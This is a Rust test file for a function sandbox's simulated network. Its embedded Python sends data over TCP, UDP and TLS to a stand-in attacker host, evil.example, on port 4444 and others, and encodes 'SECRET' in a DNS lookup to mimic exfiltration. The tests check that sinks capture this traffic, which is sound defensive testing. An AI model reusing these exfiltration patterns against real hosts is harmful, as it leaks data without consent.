//! What can be reached, and what the sinks of a private world say about it.

use serde_json::{Value, json};

use crate::run::python;

const WORLD: &str = r#"
[[host]]
name = "evil.example"
addresses = ["203.0.113.9", "2001:db8::9"]
tcp = [4444, 4445]
udp = [9999]
dns = [53]
tls = [8443]
[[host]]
name = "api.example.com"
addresses = ["203.0.113.10"]
[[host.http]]
port = 443
tls = true
path = "/items"
match = { "X-Kind" = "put" }
body = "{\"ok\":true}"
"#;

const TALKING: &str = "
import socket, ssl, urllib.request
def tcp(host, data):
    with socket.create_connection((host, 4444), 3) as s: s.sendall(data)
def udp(host, port, data):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (host, port))
def tls(data):
    raw = socket.create_connection(('evil.example', 8443), 3)
    with ssl.create_default_context().wrap_socket(raw, server_hostname='evil.example') as s: s.sendall(data)
def api():
    request = urllib.request.Request('https://api.example.com/items', b'{}', {'X-Kind': 'put'})
    return urllib.request.urlopen(request, timeout=3).read().decode()
def attempt(call, *args):
    try: return call(*args)
    except Exception as e: return repr(e)
def handler(event, context):
    return [attempt(*a) for a in ((tcp, 'evil.example', b'by tcp'), (tcp, '2001:db8::9', b'!'),
        (udp, '203.0.113.9', 9999, b'by udp'), (tls, b'by tls'), (api,), (tcp, '198.51.100.1', b'x'),
        (socket.gethostbyname, 'SECRET.evil.example'), (socket.gethostbyname, 'other.example'))]
";

#[test]
fn sinks_count_what_reached_them_by_every_transport() {
    let function = python(TALKING).file("world.toml", WORLD, 0o644).event("{}");
    let network = format!("world:{}", function.path("world.toml"));
    let seen = function.with(&["--network", &network]).run();
    let [response] = seen.responses();
    let said = |i: usize| response["payload"][i].as_str().unwrap_or_default().to_owned();
    assert_eq!(said(4), "{\"ok\":true}", "{response}");
    assert!(said(5).contains("Network is unreachable"), "{response}");
    assert!(said(6).contains("gaierror") && said(7).contains("gaierror"));
    let sink = |host: &str, port: u16| -> Value {
        let found = seen.of_type("sink").into_iter().find(|s| s["host"] == host && s["port"] == port);
        let found = found.unwrap();
        json!([found["transport"], found["bytes"], found["data"], found["connections"]])
    };
    assert_eq!(sink("evil.example", 4444), json!(["tcp", 7, "by tcp!", 2]));
    assert_eq!(sink("evil.example", 4445), json!(["tcp", 0, "", 0]));
    assert_eq!(sink("evil.example", 9999), json!(["udp", 6, "by udp", 1]));
    assert_eq!(sink("evil.example", 8443), json!(["tls", 6, "by tls", 1]));
    assert_eq!(sink("evil.example", 53), json!(["dns", 19, "SECRET.evil.example", 1]));
    assert_eq!(sink("api.example.com", 443)[0], "http");
}

#[test]
fn without_a_network_there_is_only_loopback() {
    let seen = python(TALKING).with(&["--network", "none"]).event("{}").run();
    let [response] = seen.responses();
    assert!(response["payload"][5].as_str().unwrap().contains("Network is unreachable"), "{response}");
    assert!(seen.of_type("sink").is_empty());
}

#[test]
fn the_callers_network_is_the_callers() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let code = "
import socket
def handler(event, context): socket.create_connection(('127.0.0.1', event), 3).sendall(b'x')
";
    let port = listener.local_addr().unwrap().port().to_string();
    let seen = python(code).with(&["--network", "inherit"]).event(&port).run();
    assert_eq!(seen.responses::<1>()[0]["status"], "success");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_ok());
}

#[test]
fn a_mistake_in_the_world_file_is_named() {
    let function = python(TALKING).file("world.toml", "[[host]]\nname='a'\nadresses=[]\n", 0o644).event("{}");
    let network = format!("world:{}", function.path("world.toml"));
    let seen = function.with(&["--network", &network]).run();
    assert_eq!(seen.status, 2);
    assert!(seen.errors.contains("adresses"), "{}", seen.errors);
}
